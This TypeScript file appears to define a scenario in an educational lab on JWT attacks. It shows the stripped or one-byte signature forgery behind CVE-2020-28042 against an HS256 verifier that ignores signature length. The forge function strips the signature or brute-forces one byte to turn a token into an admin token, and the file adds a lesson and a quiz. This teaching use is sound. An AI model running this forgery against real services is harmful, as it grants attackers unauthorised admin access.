import { CLAUSES } from "../clauses.ts";
import { FIXES } from "../fixes.ts";
import { HARDENED_HS256 } from "../hardened/index.ts";
import { ADMIN, cast, SECRET } from "../actors.ts";
import { verify } from "../naive/length-ignored.ts";
import { secretSetup } from "../setups.ts";
import { readCompact, split } from "../toolkit/compact.ts";
import { MAKE_ADMIN, tell } from "../toolkit/storyboard.ts";
import { defineScenario } from "../types.ts";

export default defineScenario({
  id: "null-signature",
  number: 3,
  family: "algorithm",
  title: "Signature stripped",
  summary: "The service compares as many bytes as were sent: none.",
  cve: ["CVE-2020-28042"],
  needs: "no key",
  situation:
    "Issuer and API share a secret and use HS256. The API computes the right signature and compares it with the one in the token, byte for byte, for as many bytes as the token has.",
  actors: cast([SECRET], [SECRET], []),
  variants: [
    { id: "empty", label: "no byte", note: "nothing after the last dot" },
    { id: "one", label: "one byte, guessed", note: "one of 256 tries is right" },
  ],
  asks: true,
  loosened: { macLength: "given" },
  naive: {
    file: "naive/length-ignored.ts",
    summary: "length not compared",
    verify: (setup, token) => verify(token, setup.secret),
    trace: (_, token) => [["bytes compared", `${readCompact(token).signature.length} of 32`]],
  },
  hardened: HARDENED_HS256,
  consequence: "Mallory is admin now. Nothing was compared, so nothing differed.",
  lesson: "A signature matches completely or not at all: compare the length first.",
  clause: CLAUSES.operations,
  fixes: FIXES.library,
  question: {
    text: "A verifier compares only the first 8 of 32 bytes. How many tries does a forger need at most?",
    answers: ["2⁶⁴, the number of values of eight bytes", "2²⁵⁶, since HMAC-SHA256 has 256 bits", "256"],
    right: 0,
    why: "Only what is compared protects. Eight bytes are 64 bits; no bytes are no bits.",
  },
  setup: secretSetup,
  forge: async (setup, { target }) => {
    const honest = readCompact(setup.honest);
    const moves = {
      honest: setup.honest,
      payload: { ...MAKE_ADMIN, value: { ...honest.claims, ...ADMIN } },
    };
    if (setup.variant !== "one")
      return tell({
        ...moves,
        signature: { title: "Remove the signature", text: "alg stays HS256. The text ends with the dot.", value: "" },
      });
    const { steps, token } = await tell(moves);
    const [header, payload] = split(token);
    const says =
      target === "naive"
        ? (text: string) => verify(text, setup.secret)
        : (text: string) => HARDENED_HS256.verify(setup, text);
    for (let byte = 0; byte < 256; byte += 1) {
      const guess = `${header}.${payload}.${twoCharacters(byte)}`;
      const accepted = await says(guess).then(
        () => true,
        () => false,
      );
      if (accepted || byte === 255) {
        const text = accepted
          ? `Try one byte after another. Number ${byte + 1} of 256 matches.`
          : "All 256 bytes were tried; none was accepted.";
        return { steps: [...steps, { title: "Guess one byte", text, token: guess }], token: guess };
      }
    }
    return { steps, token };
  },
});

/** One byte in base64url: the four spare bits are zero. */
function twoCharacters(byte: number): string {
  return btoa(String.fromCharCode(byte)).replaceAll("=", "").replaceAll("+", "-").replaceAll("/", "_");
}
